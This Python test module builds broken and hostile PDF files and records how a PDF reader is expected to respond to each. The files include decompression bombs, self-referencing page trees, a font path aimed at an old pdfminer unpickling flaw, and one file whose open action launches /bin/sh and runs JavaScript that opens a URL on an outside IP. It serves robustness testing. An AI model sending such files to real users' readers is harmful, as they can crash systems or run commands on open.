"""PDFs that are broken, or made to hurt whoever reads them."""

from __future__ import annotations

import sys
import zlib
from pathlib import Path

from cases import KILLED, READ, REFUSED, Case, case

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "helpers"))
from pdf_writer import Sheet, pdf

MB = 1 << 20
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
    b" /Resources << /Font << /F1 5 0 R >> >> >>"
)
WORDS = b"BT /F1 11 Tf 60 700 Td (The Clerk was asked to mend the gate by the mill pond.) Tj ET"


def written(objects: dict[int, bytes], *, trailer: bytes = b"", table: bool = True) -> bytes:
    """Return a PDF of numbered objects; without ``table`` nothing says where they are."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not table:
        return bytes(out + b"trailer << /Root 1 0 R >>\n%%EOF\n")
    start = len(out)
    most = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % most
    out += b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, most))
    out += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (most, trailer, start)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", *, length: int | None = None) -> bytes:
    """Return a stream object; ``length`` is what it claims."""
    size = len(data) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (size, extra, data)


def one_page(content: bytes, **more: bytes) -> bytes:
    """Return a PDF of one page that shows ``content`` (a whole stream object)."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: content, 5: FONT}
    objects |= {int(name[1:]): body for name, body in more.items()}
    return written(objects)


def good(pages: int = 2) -> bytes:
    """Return a paper with nothing wrong."""
    sheets = []
    for number in range(pages):
        sheet = Sheet()
        sheet.prose(f"The lamps in lane number {number} had failed and the Clerk would have them mended.")
        sheets.append(sheet)
    return pdf(sheets)


def bomb(megabytes: int, rounds: int = 1) -> bytes:
    """Return a page whose content unpacks to so much white space."""
    packer = zlib.compressobj(9)
    piece = b" " * MB
    data = b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return one_page(stream(data, b"/Filter [%s]" % (b"/FlateDecode " * rounds)))


def repeated(count: int) -> bytes:
    """Return a page that shows its words so often, packed small."""
    return one_page(stream(zlib.compress((WORDS + b"\n") * count, 9), b"/Filter /FlateDecode"))


def looping_tree() -> bytes:
    return written({1: CATALOG, 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>"})


def looping_pair() -> bytes:
    return written(
        {
            1: CATALOG,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
        }
    )


def claimed_pages(count: int) -> bytes:
    objects = {1: CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count}
    return written(objects | {3: PAGE, 4: stream(WORDS), 5: FONT})


def one_page_many_times(count: int) -> bytes:
    kids = b"3 0 R " * count
    objects = {1: CATALOG, 2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)}
    return written(objects | {3: PAGE, 4: stream(WORDS), 5: FONT})


def deep_tree(depth: int) -> bytes:
    objects = {1: CATALOG}
    for number in range(2, depth):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    return written(objects | {depth: PAGE, 4 + depth: stream(WORDS)})


def recursive_form() -> bytes:
    form = stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
    )
    page = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    return written({1: CATALOG, 2: PAGES, 3: page, 4: stream(WORDS + b" /X Do"), 5: FONT, 6: form})


def branching_forms(depth: int) -> bytes:
    """Each form shows the next one ten times: 10 to the power of ``depth`` in all."""
    page = PAGE.replace(b"/Font", b"/XObject << /X 6 0 R >> /Font")
    objects = {1: CATALOG, 2: PAGES, 3: page, 4: stream(b"/X Do"), 5: FONT}
    for number in range(6, 6 + depth):
        inside = b"/Resources << /XObject << /X %d 0 R >> /Font << /F1 5 0 R >> >>" % (number + 1)
        shown = WORDS if number == 5 + depth else b"/X Do " * 10
        objects[number] = stream(shown, b"/Type /XObject /Subtype /Form /BBox [0 0 600 850] " + inside)
    return written(objects)


def garbage_font() -> bytes:
    """Letters without a key to them: what is shown cannot be told from the bytes."""
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /Odd /Encoding /Identity-H /DescendantFonts [6 0 R] >>"
    under = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Odd /CIDSystemInfo << /Registry (Odd) /Ordering (Odd) /Supplement 0 >> >>"
    shown = b"".join(
        b"BT /F1 11 Tf 60 %d Td <%s> Tj ET " % (y, b"0301F2A9E001" * 12) for y in range(100, 700, 20)
    )
    return one_page(stream(shown), n5=font, n6=under)


def code_in_a_map() -> bytes:
    """A font names a map in a place of its own: old pdfminer unpickled such files."""
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Odd /Encoding /#2Ftmp#2Fevil /DescendantFonts [6 0 R] >>"
    )
    under = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Odd >>"
    return one_page(stream(WORDS), n5=font, n6=under)


def wide_map() -> bytes:
    """A font whose key maps every code to 500 letters."""
    rows = b"".join(b"<%04x> <%04x> <%s>\n" % (a, a + 255, b"0041" * 500) for a in range(0, 65536, 256))
    key = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    key += b"100 beginbfrange\n" + rows + b"endbfrange endcmap end"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /Odd /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>"
    under = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Odd >>"
    shown = b"BT /F1 11 Tf 60 700 Td <%s> Tj ET" % (b"00410142" * 4000)
    return one_page(stream(shown), n5=font, n6=under, n7=stream(zlib.compress(key), b"/Filter /FlateDecode"))


def revised() -> bytes:
    """The Clerk's task was another in the first revision."""
    first = one_page(stream(WORDS.replace(b"mill pond", b"old chapel")))
    later = stream(WORDS)
    start = len(first)
    body = b"4 0 obj\n%s\nendobj\n" % later
    previous = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    table = b"xref\n4 1\n%010d 00000 n \ntrailer << /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + body + table % (start, previous, start + len(body))


def circling_revisions() -> bytes:
    whole = one_page(stream(WORDS))
    start = int(whole.rsplit(b"startxref\n", 1)[1].split()[0])
    return whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % start)


def form_only() -> bytes:
    """A form that a program of Adobe's would draw: the page only says that it is one."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [] >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return written({1: catalog, 2: PAGES, 3: page, 6: stream(b"<xdp/>")})


def opens_things() -> bytes:
    act = b"<< /S /Launch /F (/bin/sh) >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /O 7 0 R >> >>"
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://203.0.113.9/x'\\)) >>"
    return written({1: catalog, 2: PAGES, 3: PAGE, 4: stream(WORDS), 5: FONT, 6: act, 7: script})


def letters_everywhere(count: int) -> bytes:
    shown = b"".join(b"1 0 0 1 %d %d Tm (x) Tj " % (n * 7 % 590, n * 13 % 840) for n in range(count))
    return one_page(stream(zlib.compress(b"BT /F1 9 Tf " + shown + b" ET"), b"/Filter /FlateDecode"))


def lines_everywhere(count: int) -> bytes:
    drawn = b"".join(
        b"%d 0 m %d 842 l S 0 %d m 595 %d l S " % (n % 595, n % 595, n % 842, n % 842) for n in range(count)
    )
    return one_page(stream(zlib.compress(drawn + WORDS), b"/Filter /FlateDecode"))


def huge_page() -> bytes:
    page = PAGE.replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]")
    return written({1: CATALOG, 2: PAGES, 3: page, 4: stream(WORDS), 5: FONT})


def nan_places() -> bytes:
    return one_page(stream(b"BT /F1 1e38 Tf 1e38 -1e38 1e38 1e38 1e38 1e38 Tm (odd place) Tj ET " + WORDS))


PAPERS: tuple[Case, ...] = (
    case("truncated-half.pdf", lambda: good(6)[: len(good(6)) // 2], READ, REFUSED),
    case("truncated-head.pdf", lambda: good()[:70], "damaged"),
    case("only-a-header.pdf", lambda: b"%PDF-1.7\n", REFUSED),
    case("no-bytes.pdf", lambda: b"", "empty"),
    case("nul-bytes.pdf", lambda: bytes(5000), "empty"),
    case("page-tree-loop.pdf", looping_tree, REFUSED),
    case("page-tree-pair.pdf", looping_pair, REFUSED),
    case("claims-a-billion-pages.pdf", lambda: claimed_pages(10**9), READ, REFUSED),
    case("claims-minus-one-page.pdf", lambda: claimed_pages(-1), READ, REFUSED),
    case("one-page-6000-times.pdf", lambda: one_page_many_times(6000), "over limit", "damaged"),
    case("deep-page-tree.pdf", lambda: deep_tree(5000), REFUSED),
    case("bomb-64-mb.pdf", lambda: bomb(64), REFUSED, slow=True),
    case("bomb-1-gb.pdf", lambda: bomb(1024), REFUSED, KILLED, slow=True),
    case("bomb-4-gb-twice-packed.pdf", lambda: bomb(4096, 2), REFUSED, KILLED, slow=True),
    case("words-a-million-times.pdf", lambda: repeated(1_000_000), READ, REFUSED, KILLED, slow=True),
    case("words-20000-times.pdf", lambda: repeated(20_000), READ, REFUSED, KILLED, slow=True),
    case("deep-arrays.pdf", lambda: one_page(stream(WORDS), n6=b"[" * 200_000), READ, REFUSED),
    case("deep-dictionaries.pdf", lambda: one_page(b"<< /A " * 100_000), REFUSED),
    case("deep-arrays-in-page.pdf", lambda: one_page(stream(b"[" * 500_000 + WORDS)), READ, REFUSED),
    case("deep-states-in-page.pdf", lambda: one_page(stream(b"q " * 500_000 + WORDS)), READ, REFUSED),
    case("no-xref.pdf", lambda: written({1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(WORDS), 5: FONT}, table=False), READ),
    case("xref-elsewhere.pdf", lambda: good().replace(b"startxref\n", b"startxref\n99999"), READ, REFUSED),
    case("circling-revisions.pdf", circling_revisions, READ, REFUSED),
    case("revised.pdf", revised, READ),
    case("encrypted.pdf", lambda: pdf([Sheet()], password=b"toll"), "encrypted"),
    case("length-lies.pdf", lambda: one_page(stream(WORDS, length=10**12)), READ, REFUSED),
    case("length-negative.pdf", lambda: one_page(stream(WORDS, length=-5)), READ, REFUSED),
    case("length-is-itself.pdf", lambda: one_page(b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % WORDS), READ, REFUSED),
    case("recursive-form.pdf", recursive_form, READ, REFUSED, KILLED, slow=True),
    case("branching-forms.pdf", lambda: branching_forms(12), READ, REFUSED, KILLED, slow=True),
    case("garbage-font.pdf", garbage_font, "needs OCR", "read with warnings"),
    case("code-in-a-map.pdf", code_in_a_map, READ, REFUSED),
    case("wide-map.pdf", wide_map, READ, REFUSED, slow=True),
    case("form-only.pdf", form_only, "needs OCR"),
    case("opens-things.pdf", opens_things, READ),
    case("letters-everywhere.pdf", lambda: letters_everywhere(60_000), READ, REFUSED, KILLED, slow=True),
    case("lines-everywhere.pdf", lambda: lines_everywhere(30_000), READ, slow=True),
    case("huge-page.pdf", huge_page, READ, REFUSED),
    case("nan-places.pdf", nan_places, READ, REFUSED),
    case("a-pdf.txt", good, "read with warnings"),
    case("a-pdf.docx", lambda: good(3), "read with warnings"),
    case("junk-before.pdf", lambda: b"\x00junk\n" * 50 + good(), READ, REFUSED),
    case("random-after-header.pdf", lambda: b"%PDF-1.4\n" + bytes(n * 89 % 251 for n in range(40_000)), REFUSED),
)  # fmt: skip
